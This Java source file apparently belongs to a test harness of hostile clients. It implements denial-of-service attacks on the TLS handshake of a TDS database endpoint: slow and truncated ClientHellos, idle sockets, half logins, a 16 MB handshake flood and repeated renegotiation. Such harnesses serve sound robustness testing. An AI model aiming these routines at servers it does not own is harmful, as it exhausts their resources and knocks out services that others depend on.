package dev.weir.bootstrap.hostile.attack;

import java.io.IOException;
import java.nio.ByteBuffer;
import java.time.Duration;
import java.util.concurrent.Semaphore;
import java.util.concurrent.TimeUnit;
import javax.net.ssl.SSLSocket;

/** Attacks by the handshake of TLS: every second socket speaks TDS 8.0, the others TDS 7.x. */
final class TlsAttacks {
  private static final int RECORD = 16 * 1024;
  private static final int RECORD_HEADER = 5;
  private static final int HANDSHAKE_RECORD = 22;
  private static final int CLIENT_HELLO = 1;
  private static final int PIECE = 16;

  private TlsAttacks() {}

  private static boolean isStrict(Attacker attacker) {
    return attacker.number() % 2 == 0;
  }

  /** Connects, up to where the handshake begins. */
  private static HostileSocket connect(Attacker attacker) throws IOException {
    return isStrict(attacker) ? attacker.connect() : attacker.connect(TdsMessages.ENCRYPT_ON);
  }

  private static byte[] carried(Attacker attacker, byte[] record) {
    return isStrict(attacker) ? record : TdsMessages.wrapped(record);
  }

  static void sendClientHello(Attacker attacker) throws IOException {
    try (HostileSocket socket = connect(attacker)) {
      socket.send(carried(attacker, TlsClient.clientHello()));
      attacker.hold(socket);
    }
  }

  static void sendClientHelloInPieces(Attacker attacker) throws IOException, InterruptedException {
    try (HostileSocket socket = connect(attacker)) {
      byte[] hello = carried(attacker, TlsClient.clientHello());
      byte[] withoutEnd = java.util.Arrays.copyOf(hello, hello.length - 1);
      socket.sendSlowly(withoutEnd, PIECE, Duration.ofMillis(20), attacker.shared().stop);
      attacker.hold(socket);
    }
  }

  static void keepSilentBehindHandshake(Attacker attacker) throws IOException {
    try (HostileSocket socket = connect(attacker)) {
      SSLSocket unused = isStrict(attacker) ? TlsClient.strict(socket) : TlsClient.wrapped(socket);
      attacker.hold(socket);
    }
  }

  /** In TDS 8.0 the PRELOGIN comes behind the handshake. */
  static void sendHalfLogin(Attacker attacker) throws IOException {
    try (HostileSocket socket = connect(attacker)) {
      SSLSocket tls = isStrict(attacker) ? TlsClient.strict(socket) : TlsClient.wrapped(socket);
      if (isStrict(attacker)) {
        tls.getOutputStream().write(TdsMessages.prelogin(TdsMessages.ENCRYPT_NOT_SUPPORTED));
      }
      tls.getOutputStream().write(MemoryAttacks.HALF_LOGIN);
      attacker.hold(socket);
    }
  }

  /**
   * A ClientHello of 16 MB in records of 16 KB: how much of it does the other side put together?
   */
  static void sendHugeHandshakeMessage(Attacker attacker) throws IOException {
    try (HostileSocket socket = connect(attacker)) {
      byte[] first = record();
      first[RECORD_HEADER] = CLIENT_HELLO;
      java.util.Arrays.fill(first, RECORD_HEADER + 1, RECORD_HEADER + 4, (byte) 0xFF);
      socket.send(carried(attacker, first));
      while (!attacker.isOver()) {
        socket.send(carried(attacker, record()));
      }
    }
  }

  private static byte[] record() {
    ByteBuffer record = ByteBuffer.allocate(RECORD_HEADER + RECORD);
    record.put((byte) HANDSHAKE_RECORD).put((byte) 3).put((byte) 1).putShort((short) RECORD);
    return record.array();
  }

  /** Inside of TDS 7.x: TLS 1.3 has no renegotiation. An accepted one counts as accepted. */
  static void renegotiate(Attacker attacker) throws IOException, InterruptedException {
    try (HostileSocket socket = attacker.connect(TdsMessages.ENCRYPT_ON)) {
      try (SSLSocket tls = TlsClient.wrapped(socket)) {
        Semaphore completed = new Semaphore(0);
        tls.addHandshakeCompletedListener(
            event -> {
              attacker.counts().accepted.incrementAndGet();
              completed.release();
            });
        Thread reader = Thread.ofVirtual().start(() -> readHandshakes(tls));
        while (!attacker.isOver() && reader.isAlive()) {
          attacker.pace();
          tls.startHandshake();
          // One that is not answered is no reason to wait for longer.
          boolean unused = completed.tryAcquire(100, TimeUnit.MILLISECONDS);
        }
      }
    }
  }

  /** Whoever reads carries on the handshake; no byte of TDS comes before a login. */
  private static void readHandshakes(SSLSocket tls) {
    try {
      int unused = tls.getInputStream().read();
    } catch (IOException ended) {
      // The other side has refused to negotiate anew, which the attack survives by beginning again.
    }
  }
}
